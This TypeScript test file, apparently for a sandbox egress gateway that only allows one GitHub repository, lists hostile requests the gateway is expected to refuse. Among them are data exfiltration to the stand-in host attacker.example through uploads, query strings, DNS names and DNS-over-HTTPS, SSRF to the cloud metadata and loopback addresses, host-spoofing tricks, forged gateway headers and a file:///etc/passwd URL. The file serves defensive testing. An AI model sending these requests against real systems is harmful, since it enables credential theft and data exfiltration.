/**
 * Requests that name another host, or name a host in an odd way: as a URL, in `Host` and as an absolute
 * request target.
 */
import {
  allowed,
  but,
  decidedAs,
  denial,
  denied,
  fetched,
  get,
  head,
  infoRefs,
  marker,
  onUrl,
  plain,
  post,
  reachedRefs,
  refs,
  secure,
  wanted,
  workerdAnswers,
  workerdDecides,
  type Attack,
} from './attack.ts';
import { openai } from './openai-request.ts';

const stranger = 'attacker.example';
const strangerGet = (...headers: string[]) => get('/', { scheme: 'http', host: stranger, headers });
const alone = (line: string, ...headers: string[]) => secure(head(line, ...headers));
const github = 'Host: github.com';
const invalid = workerdDecides(denial('url.invalid'));
/** The SDK's proxy makes a URL of it, and fails. */
const gone = workerdAnswers(500);
const mismatch = denial('url.host-mismatch');

export const address: readonly Attack[] = [
  ...allowed('github.info-refs', reachedRefs, {
    'github.com in capitals': get(refs, { host: 'GITHUB.COM' }),
    'github.com at its own port': get(refs, { host: 'github.com:443' }),
    'an absolute URL that agrees with Host': get(`https://github.com${refs}`),
    'the headers of Cloudflare’s sidecar, forged': get(refs, {
      headers: ['X-Tls-Sni: attacker.example', 'X-Hostname: attacker.example', 'X-Dst-Addr: 1.2.3.4:1'],
    }),
  }),

  ...denied('host.not-granted', {
    'another host': get('/', { host: stranger }),
    'another host over plain HTTP': strangerGet(),
    'an absolute URL as tools send it to a proxy': but(
      get(`http://${stranger}/`, {
        scheme: 'http',
        host: stranger,
        headers: ['Proxy-Connection: keep-alive'],
      }),
      {},
    ),
    'an upload to another host': post(`/drop/${marker}`, marker, { host: stranger }),
    'an upload to another host over plain HTTP': post('/x', marker, { scheme: 'http', host: stranger }),
    'data in the query to another host': get('/?data=c291cmNl', { host: stranger }),
    'data in the name of another host': get('/', { host: `c291cmNl.${stranger}` }),
    'DNS over HTTPS as a POST': post('/dns-query', marker, {
      host: 'dns.google',
      headers: ['content-type: application/dns-message'],
    }),
    'DNS over HTTPS as a GET': get(`/dns-query?name=${marker}.${stranger}`, {
      host: 'cloudflare-dns.com',
      headers: ['accept: application/dns-json'],
    }),
    'github.com as the beginning of another host': get(refs, { host: `github.com.${stranger}` }),
    'a host that ends like github.com': get(refs, { host: 'notgithub.com' }),
    'github.com with a Cyrillic letter': get(refs, { host: 'xn--gthub-n4a.com' }),
    'a name in Punycode': get(`/${marker}`, { host: 'xn--80ak6aa92e.com' }),
    'github.com in the path of another host': get(`/github.com${refs}`, { host: stranger }),
    'github.com with a dot at the end': but(get(refs, { host: 'github.com.' }), { gateway: 'host_invalid' }),
    'github.com with a dot at the end and no repository': but(get(infoRefs, { host: 'github.com.' }), {
      gateway: 'host_invalid',
    }),
    // Clients name no address in a handshake.
    'an address of GitHub': but(get('/acme/split-bill', { host: '140.82.121.4' }), {
      gateway: 'sni_missing',
      reportedHost: '140.82.121.4',
      workerd: workerdAnswers(),
    }),
    'the metadata address': get('/latest/meta-data/', { scheme: 'http', host: '169.254.169.254' }),
    'the loopback address': get('/', { scheme: 'http', host: '127.0.0.1' }),
    'an IPv6 address': but(get('/x', { scheme: 'http', host: '[::1]' }), { gateway: 'host_invalid' }),
    'the gateway’s own headers with another sandbox’s id': strangerGet(
      'X-Airlock-Sandbox: 0000000000000000000000000000000000000000000000000000000000000000',
      'X-Airlock-Token: guess',
      'X-Airlock-Refused: no',
    ),
    'a Connection header that names the gateway’s own': strangerGet(
      'Connection: x-airlock-token, x-airlock-sandbox',
      'X-Airlock-Sandbox: 0000000000000000000000000000000000000000000000000000000000000000',
    ),
  }),
  ...denied('github.repository', {
    'another repository with the headers of the gateway': get(`/acme/other.git${infoRefs}`, {
      headers: [`X-Airlock-Sandbox: ${'a'.repeat(64)}`, 'X-Airlock-Token: x'],
    }),
  }),
  ...denied('canary.mismatch', {
    'the canary with a guessed nonce': get('/0123456789abcdef0123456789abcdef', {
      host: 'canary.airlock.invalid',
    }),
    'an upload to the canary': post('/x', marker, { host: 'canary.airlock.invalid' }),
    'a name below the canary’s': get('/', { host: `${marker}.canary.airlock.invalid` }),
  }),

  ...denied('url.userinfo', {
    'a user before github.com': but(get(refs, { host: 'attacker@github.com' }), { gateway: 'host_invalid' }),
    'github.com as the user of another host': but(get(refs, { host: `github.com@${stranger}` }), {
      gateway: 'host_invalid',
    }),
    'github.com as the user, without a repository': but(get('/', { host: `github.com@${stranger}` }), {
      gateway: 'host_invalid',
    }),
    'another host with a port as the user of github.com': but(
      get(refs, { host: `${stranger}:443@github.com` }),
      { gateway: 'host_invalid' },
    ),
    'an empty user': but(get(refs, { host: '@github.com' }), {
      gateway: 'host_invalid',
      workerd: workerdDecides(denial('url.host-mismatch')),
    }),
    'a token as the password in the URL of a push': but(
      post('/attacker/loot.git/git-receive-pack', wanted, { host: 'attacker:ghp_own@github.com' }),
      { gateway: 'host_invalid' },
    ),
    'an absolute URL with a user and a password': but(get(`https://x:y@github.com${refs}`), {
      gateway: 'target_mismatch',
      reportedHost: 'github.com',
    }),
    'an absolute URL with github.com as the user': but(get(`https://github.com@${stranger}/`), {
      gateway: 'target_mismatch',
      reportedHost: 'github.com',
    }),
    'an absolute URL with a user over plain HTTP': but(get('http://u@github.com/', { scheme: 'http' }), {
      gateway: 'target_mismatch',
      reportedHost: 'github.com',
    }),
  }),
  ...denied('url.port', {
    'another port': but(get(refs, { host: 'github.com:8443' }), {
      gateway: 'host_port',
      reportedHost: 'github.com',
    }),
    'another port and no repository': but(get('/', { host: 'github.com:8443' }), {
      gateway: 'host_port',
      reportedHost: 'github.com',
    }),
    'another port over plain HTTP': but(get('/', { scheme: 'http', host: 'github.com:8080' }), {
      gateway: 'host_port',
      reportedHost: 'github.com',
    }),
    'the port of plain HTTP within TLS': but(get(refs, { host: 'github.com:80' }), {
      gateway: 'host_port',
      reportedHost: 'github.com',
    }),
    'an empty port': but(get(refs, { host: 'github.com:' }), {
      gateway: 'host_port',
      reportedHost: 'github.com',
      workerd: workerdDecides(denial('url.host-mismatch')),
    }),
    'an empty port over plain HTTP': but(get('/', { scheme: 'http', host: 'github.com:' }), {
      gateway: 'host_port',
      reportedHost: 'github.com',
      workerd: workerdDecides(denial('url.host-mismatch')),
    }),
    'an absolute URL with another port': but(get(`https://github.com:8443${refs}`), {
      gateway: 'target_mismatch',
      reportedHost: 'github.com',
    }),
    'an absolute URL with another port over plain HTTP': but(
      get('http://github.com:81/', { scheme: 'http' }),
      { gateway: 'target_mismatch', reportedHost: 'github.com' },
    ),
  }),
  ...denied('url.not-plain', {
    'a port with zeros': but(get(refs, { host: 'github.com:00443' }), {
      gateway: 'host_port',
      reportedHost: 'github.com',
      workerd: workerdDecides(denial('url.host-mismatch')),
    }),
    'an escaped letter in the host': but(get(refs, { host: 'git%68ub.com' }), {
      gateway: 'host_invalid',
      workerd: workerdDecides(denial('url.host-mismatch')),
    }),
    'an address in hexadecimal': but(get('/', { host: '0x8c.0x52.0x79.0x04' }), {
      workerd: workerdDecides(denial('url.host-mismatch')),
    }),
    'an address as one number': but(get('/', { host: '2354215172' }), {
      workerd: workerdDecides(denial('url.host-mismatch')),
    }),
    'the loopback address as one number': but(get(`/${marker}`, { scheme: 'http', host: '2130706433' }), {
      workerd: workerdDecides(denial('url.host-mismatch')),
    }),
    'an IPv4 address written as IPv6': but(get('/x', { scheme: 'http', host: '[::ffff:127.0.0.1]' }), {
      gateway: 'host_invalid',
      workerd: workerdDecides(denial('url.host-mismatch')),
    }),
  }),
  ...denied(
    'url.scheme',
    {
      'an absolute URL of FTP': get('ftp://github.com/x'),
      'an absolute URL of a file': get('file:///etc/passwd'),
      'an absolute URL of a WebSocket': but(get('ws://api.openai.com/v1/responses', openai), {
        reportedHost: 'api.openai.com',
      }),
    },
    { gateway: 'target_mismatch', reportedHost: 'github.com' },
  ),
  ...denied('url.invalid', {
    'a data URL': onUrl('data:text/plain,x'),
    'a path without a host': onUrl('/acme/split-bill'),
    'no URL': onUrl(''),
  }),
  ...decidedAs([mismatch], {
    'an absolute URL of another host': but(get(`https://${stranger}/`), {
      gateway: 'target_mismatch',
      reportedHost: 'github.com',
    }),
    'an absolute URL of another host over plain HTTP': but(get(`http://${stranger}/`, { scheme: 'http' }), {
      gateway: 'target_mismatch',
      reportedHost: 'github.com',
    }),
    'an absolute URL of github.com with another Host': but(
      get(`https://github.com${refs}`, { host: stranger }),
      { gateway: 'target_mismatch', reportedHost: stranger },
    ),
    'two names in one Host': but(get(`https://github.com${refs}`, { host: `github.com, ${stranger}` }), {
      gateway: 'host_invalid',
    }),
    'another port in Host than in the URL': but(
      get(`https://github.com${refs}`, { host: 'github.com:8443' }),
      {
        gateway: 'host_port',
        reportedHost: 'github.com',
      },
    ),
    'an empty Host and an absolute URL': but(get(`https://github.com${refs}`, { host: '' }), {
      gateway: 'host_invalid',
      workerd: workerdDecides(fetched),
    }),
  }),
  ...decidedAs([], {
    'an absolute URL of plain HTTP within TLS': but(alone('GET http://github.com/ HTTP/1.1', github), {
      gateway: 'target_mismatch',
      workerd: workerdDecides(denial('github.path')),
    }),
    // Once ended the gateway's whole process: no URL can have this host.
    'a number above 255 in an address, and an upgrade': but(
      plain(head('GET / HTTP/1.1', 'Host: 1.2.3.256', 'Upgrade: websocket')),
      { gateway: 'host_invalid', workerd: invalid, sdk: gone },
    ),
    'OPTIONS *': but(alone('OPTIONS * HTTP/1.1', github), {
      gateway: 'target_invalid',
      workerd: invalid,
      sdk: gone,
    }),
    'OPTIONS * over plain HTTP': but(plain(head('OPTIONS * HTTP/1.1', github)), {
      gateway: 'target_invalid',
      reportedHost: 'github.com',
      workerd: invalid,
      sdk: gone,
    }),
    'a fragment over plain HTTP': but(plain(head('GET /a#b HTTP/1.1', github)), {
      gateway: 'target_invalid',
      reportedHost: 'github.com',
      workerd: workerdDecides(denial('url.fragment')),
    }),
  }),
];
